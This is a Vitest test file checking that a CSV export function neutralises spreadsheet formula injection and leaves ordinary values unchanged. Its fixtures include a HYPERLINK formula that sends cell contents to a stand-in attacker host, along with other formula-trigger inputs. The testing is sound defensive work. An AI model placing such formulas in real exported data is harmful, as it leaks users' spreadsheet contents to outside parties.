import { describe, expect, it } from "vitest";
import { formatExport } from "../../../src/stats/export-format.js";

async function csv(rows: Record<string, unknown>[]): Promise<string> {
  async function* batches() {
    yield rows;
  }
  let out = "";
  for await (const chunk of formatExport(batches(), "csv", ["title", "count"])) out += chunk;
  return out;
}

describe("CSV export and formula injection", () => {
  it("escapes cells a spreadsheet would run as formulas (OWASP: leading ', quoted)", async () => {
    const text = await csv([
      { title: '=HYPERLINK("https://evil.example/?d="&A1,"click")', count: 1 },
      { title: "@SUM(A1:A9)", count: 2 },
      { title: "+1+2", count: 3 },
      { title: "-2+3", count: -4 },
      { title: "\t=1", count: 5 },
      { title: "\r=1", count: 6 },
      { title: "＝1+1", count: 7 },
    ]);
    expect(text.split("\n").slice(0, 6)).toEqual([
      "title,count",
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",1`,
      `"'@SUM(A1:A9)",2`,
      `"'+1+2",3`,
      `"'-2+3",-4`,
      `"'\t=1",5`,
    ]);
    expect(text).toContain(`"'\r=1",6`);
    expect(text).toContain(`"'＝1+1",7`);
  });

  it("leaves ordinary text and numbers alone", async () => {
    const text = await csv([{ title: "TypeError: x is undefined = bad", count: -1 }]);
    expect(text).toBe("title,count\nTypeError: x is undefined = bad,-1\n");
  });
});
